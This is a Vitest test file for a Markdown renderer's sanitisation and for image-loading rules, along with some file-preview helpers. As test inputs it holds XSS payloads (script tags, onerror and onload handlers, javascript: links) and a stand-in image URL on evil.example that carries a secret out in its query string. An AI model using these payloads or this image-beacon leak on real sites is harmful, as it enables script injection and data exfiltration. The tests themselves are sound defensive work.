// @vitest-environment jsdom
import { describe, expect, it } from 'vitest'
import { highlightCode, imageAllowed, renderMarkdown, formatSize } from '../src/lib/markdown'
import { decodeText, kindByName } from '../src/lib/preview'

describe('renderMarkdown', () => {
  it('renders Markdown', () => {
    const html = renderMarkdown('# Title\n\n**bold** and `code`\n\n```python\nprint(1)\n```')
    expect(html).toContain('<h1>Title</h1>')
    expect(html).toContain('<strong>bold</strong>')
    expect(html).toContain('hljs-built_in')
  })

  it('never lets scripts or event handlers through', () => {
    const evil = [
      '<script>window.pwned = 1</script>',
      '<img src=x onerror="window.pwned=1">',
      '[click](javascript:alert(1))',
      '<a href="javascript:alert(1)">x</a>',
      '<iframe src="https://example.com"></iframe>',
      '<svg onload="alert(1)"></svg>',
    ].join('\n\n')
    const html = renderMarkdown(evil)
    const doc = new DOMParser().parseFromString(`<div>${html}</div>`, 'text/html')
    expect(doc.querySelectorAll('script, iframe, img[onerror], svg').length).toBe(0)
    for (const el of Array.from(doc.querySelectorAll('*'))) {
      for (const a of Array.from(el.attributes)) {
        expect(a.name.startsWith('on')).toBe(false)
        expect(a.value.toLowerCase()).not.toContain('javascript:')
      }
    }
    // shown as text, not dropped
    expect(doc.body.textContent).toContain('<script>window.pwned = 1</script>')
  })

  it('opens links in a new tab without opener', () => {
    const html = renderMarkdown('see https://example.com')
    expect(html).toContain('target="_blank"')
    expect(html).toContain('rel="noopener noreferrer nofollow"')
  })

  it('shows a remote image as a link, never as an image', () => {
    const leak = 'http://evil.example/leak.png?d=secret'
    for (const src of [leak, 'https://evil.example/x.png', '//evil.example/x.png']) {
      const html = renderMarkdown(`Chart: ![the chart](${src}) done`)
      const doc = new DOMParser().parseFromString(`<div>${html}</div>`, 'text/html')
      expect(doc.querySelectorAll('img').length).toBe(0)
      const link = doc.querySelector('a.remote-image')
      expect(link?.getAttribute('href')).toBe(src)
      expect(link?.textContent).toBe('Image: the chart')
      expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow')
    }
    // without alt text, the address is the label; in a link, the label only
    expect(renderMarkdown(`![](${leak})`)).toContain('>Image: http://evil.example/leak.png?d=secret<')
    const linked = renderMarkdown(`[![badge](${leak})](https://example.com/ci)`)
    expect(linked).not.toContain('<img')
    expect(linked).toContain('<span class="remote-image">Image: badge</span>')
    expect(linked).toContain('href="https://example.com/ci"')
  })

  it('keeps images of this origin, relative ones and data: URLs', () => {
    const own = `${location.origin}/api/files/c1/chart.png`
    const png = 'data:image/png;base64,iVBORw0KGgo='
    const html = renderMarkdown(`![a](img/chart.svg) ![b](${own}) ![c](${png}) ![d](/x.png)`)
    const doc = new DOMParser().parseFromString(`<div>${html}</div>`, 'text/html')
    const srcs = Array.from(doc.querySelectorAll('img')).map((i) => i.getAttribute('src'))
    expect(srcs).toEqual(['img/chart.svg', own, png, '/x.png'])
    expect(doc.querySelectorAll('a').length).toBe(0)
  })

  it('decides which image addresses may load', () => {
    const base = 'http://127.0.0.1:8000/#/c/1'
    expect(imageAllowed('img/a.png', base)).toBe(true)
    expect(imageAllowed('/api/files/c/a.png', base)).toBe(true)
    expect(imageAllowed('http://127.0.0.1:8000/a.png', base)).toBe(true)
    expect(imageAllowed('blob:http://127.0.0.1:8000/3f1c', base)).toBe(true)
    expect(imageAllowed('data:image/gif;base64,R0lGOD', base)).toBe(true)
    expect(imageAllowed('http://127.0.0.1:9000/a.png', base)).toBe(false)
    expect(imageAllowed('https://127.0.0.1:8000/a.png', base)).toBe(false)
    expect(imageAllowed('//evil.example/a.png', base)).toBe(false)
    expect(imageAllowed('blob:http://evil.example/3f1c', base)).toBe(false)
    expect(imageAllowed('ftp://evil.example/a.png', base)).toBe(false)
    expect(imageAllowed('', base)).toBe(false)
    expect(imageAllowed('http://[bad', base)).toBe(false)
  })

  it('escapes code it cannot highlight', () => {
    expect(highlightCode('<b>&</b>', null)).toBe('&lt;b&gt;&amp;&lt;/b&gt;')
    expect(highlightCode('x = "<b>"', 'python')).not.toContain('<b>')
  })
})

describe('preview helpers', () => {
  it('picks a preview kind by name', () => {
    expect(kindByName('a/b.png')).toBe('image')
    expect(kindByName('index.html')).toBe('html')
    expect(kindByName('README.md')).toBe('markdown')
    expect(kindByName('app.py')).toBe('code')
    expect(kindByName('notes.txt')).toBe('text')
    expect(kindByName('data.bin')).toBe(null)
  })

  it('detects text vs binary', () => {
    expect(decodeText(new TextEncoder().encode('héllo'))).toBe('héllo')
    expect(decodeText(new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x00, 0x00]))).toBe(null)
    expect(decodeText(new Uint8Array([0xff, 0xfe, 0xfd]))).toBe(null)
  })

  it('formats sizes', () => {
    expect(formatSize(12)).toBe('12 B')
    expect(formatSize(2048)).toBe('2.0 KB')
    expect(formatSize(3 * 1024 * 1024)).toBe('3.0 MB')
  })
})
